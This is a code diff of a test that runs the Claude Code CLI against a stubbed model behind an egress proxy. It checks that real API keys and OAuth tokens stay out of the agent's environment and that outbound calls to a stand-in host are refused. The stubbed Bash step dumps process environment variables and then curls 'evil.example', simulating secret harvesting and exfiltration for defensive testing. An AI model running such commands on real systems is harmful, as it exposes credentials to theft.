@@ -251,73 +251,83 @@ with zipfile.ZipFile(sys.argv[1], "w") as z:
   expect(egress.refused()).toEqual([]);
 });
 
-test("Claude Code itself: it works with a stand-in, and the real key is nowhere in its environment", async () => {
-  const received: string[] = [];
-  // In front of the stub, to see which key comes there.
-  const stub = spawn(process.execPath, [STUB], { stdio: ["ignore", "pipe", "inherit"] });
-  try {
-    const stubPort = await new Promise<number>((resolve) =>
-      stub.stdout.once("data", (d: Buffer) => resolve(Number(d.toString()))),
-    );
-    const front = await bench.serve((request, response) => {
-      received.push(`${request.method} ${request.url} ${String(request.headers["x-api-key"])}`);
-      const parts: Buffer[] = [];
-      request.on("data", (part: Buffer) => parts.push(part));
-      request.once("end", () => {
-        const pass = async (): Promise<void> => {
-          const answer = await fetch(`http://127.0.0.1:${stubPort}${request.url}`, {
-            method: request.method ?? "GET",
-            ...(request.method === "POST" ? { body: Buffer.concat(parts) } : {}),
-          });
-          response.writeHead(answer.status, { "content-type": answer.headers.get("content-type") ?? "" });
-          response.end(Buffer.from(await answer.arrayBuffer()));
-        };
-        pass().catch(() => response.destroy());
+test.each([
+  ["ANTHROPIC_API_KEY", KEY],
+  ["ANTHROPIC_AUTH_TOKEN", KEY],
+  ["CLAUDE_CODE_OAUTH_TOKEN", KEY.replace("api03", "oat01")],
+])(
+  "Claude Code itself with %s: it works with a stand-in, and the real key is nowhere in its environment",
+  async (name, real) => {
+    const received: string[] = [];
+    // In front of the stub, to see which key comes there.
+    const stub = spawn(process.execPath, [STUB], { stdio: ["ignore", "pipe", "inherit"] });
+    try {
+      const stubPort = await new Promise<number>((resolve) =>
+        stub.stdout.once("data", (d: Buffer) => resolve(Number(d.toString()))),
+      );
+      const front = await bench.serve((request, response) => {
+        received.push(
+          `${request.method} ${request.url} ${String(request.headers["x-api-key"] ?? request.headers.authorization)}`,
+        );
+        const parts: Buffer[] = [];
+        request.on("data", (part: Buffer) => parts.push(part));
+        request.once("end", () => {
+          const pass = async (): Promise<void> => {
+            const answer = await fetch(`http://127.0.0.1:${stubPort}${request.url}`, {
+              method: request.method ?? "GET",
+              ...(request.method === "POST" ? { body: Buffer.concat(parts) } : {}),
+            });
+            response.writeHead(answer.status, { "content-type": answer.headers.get("content-type") ?? "" });
+            response.end(Buffer.from(await answer.arrayBuffer()));
+          };
+          pass().catch(() => response.destroy());
+        });
       });
-    });
-    await open(
-      {},
-      {
-        ANTHROPIC_API_KEY: KEY,
-        ANTHROPIC_BASE_URL: `http://127.0.0.1:${front}`,
-        CLAUDE_CONFIG_DIR: join(bench.dir, "claude"),
-        CLAUDE_CODE_TMPDIR: bench.dir,
-        CLAUDE_CODE_DISABLE_NONESSENTIAL_TRAFFIC: "1",
-        DISABLE_AUTOUPDATER: "1",
-        IS_SANDBOX: "1",
-      },
-    );
-    const tree = join(bench.dir, "tree");
-    await mkdir(tree);
-    const seen = join(bench.dir, "seen");
-    const look = `for f in /proc/self/environ /proc/$PPID/environ; do tr '\\\\0' '\\\\n' <$f; done >${seen}; env >>${seen}; curl -sS http://evil.example/`;
-    const steps = [{ tool: "Bash", input: { command: look } }, { text: "Done." }];
-    const done = await run(
-      [
-        "claude",
-        "-p",
-        `do it @@stub ${JSON.stringify(steps)}@@`,
-        "--model",
-        "claude-sonnet-4-5",
-        "--dangerously-skip-permissions",
-      ],
-      { cwd: tree },
-    );
-    expect(done).toMatchObject({ code: 0, stdout: expect.stringContaining("Done.") });
-    expect(received.length).toBeGreaterThanOrEqual(2);
-    for (const line of received) expect(line).toContain(KEY);
-    const environment = await readFile(seen, "utf8");
-    expect(environment).toContain(`ANTHROPIC_API_KEY=${egress.env["ANTHROPIC_API_KEY"]}`);
-    expect(environment).not.toContain("canary-of-the-real-key");
-    // The CLI's own figures, again, by the proxy's count: two answers of the stub.
-    expect(Object.values(egress.usage().models)).toEqual([
-      expect.objectContaining({
-        inputTokens:
-          100 * received.filter((line) => line.includes("/v1/messages?") || line.includes("/v1/messages ")).length,
-      }),
-    ]);
-    expect(egress.refused()).toEqual([{ host: "evil.example", times: 1 }]);
-  } finally {
-    stub.kill();
-  }
-});
+      await open(
+        {},
+        {
+          [name]: real,
+          ANTHROPIC_BASE_URL: `http://127.0.0.1:${front}`,
+          CLAUDE_CONFIG_DIR: join(bench.dir, "claude"),
+          CLAUDE_CODE_TMPDIR: bench.dir,
+          CLAUDE_CODE_DISABLE_NONESSENTIAL_TRAFFIC: "1",
+          DISABLE_AUTOUPDATER: "1",
+          IS_SANDBOX: "1",
+        },
+      );
+      const tree = join(bench.dir, "tree");
+      await mkdir(tree);
+      const seen = join(bench.dir, "seen");
+      const look = `cat /proc/$CLAUDE_PID/environ >${seen}; env >>${seen}; curl -sS http://evil.example/`;
+      const steps = [{ tool: "Bash", input: { command: look } }, { text: "Done." }];
+      const done = await run(
+        [
+          "claude",
+          "-p",
+          `do it @@stub ${JSON.stringify(steps)}@@`,
+          "--model",
+          "claude-sonnet-4-5",
+          "--dangerously-skip-permissions",
+        ],
+        { cwd: tree },
+      );
+      expect(done).toMatchObject({ code: 0, stdout: expect.stringContaining("Done.") });
+      expect(received.length).toBeGreaterThanOrEqual(2);
+      for (const line of received) expect(line).toContain(real);
+      const environment = await readFile(seen, "utf8");
+      // The CLI's own environment, and that of its commands, which it keeps some tokens from.
+      expect(environment).toContain(`${name}=${egress.env[name]}`);
+      expect(environment).not.toContain("canary-of-the-real-key");
+      // The CLI's own figures, again, by the proxy's count: two answers of the stub.
+      expect(Object.values(egress.usage().models)).toEqual([
+        expect.objectContaining({
+          inputTokens:
+            100 * received.filter((line) => line.includes("/v1/messages?") || line.includes("/v1/messages ")).length,
+        }),
+      ]);
+      expect(egress.refused()).toEqual([{ host: "evil.example", times: 1 }]);
+    } finally {
+      stub.kill();
+    }
+  },
+);
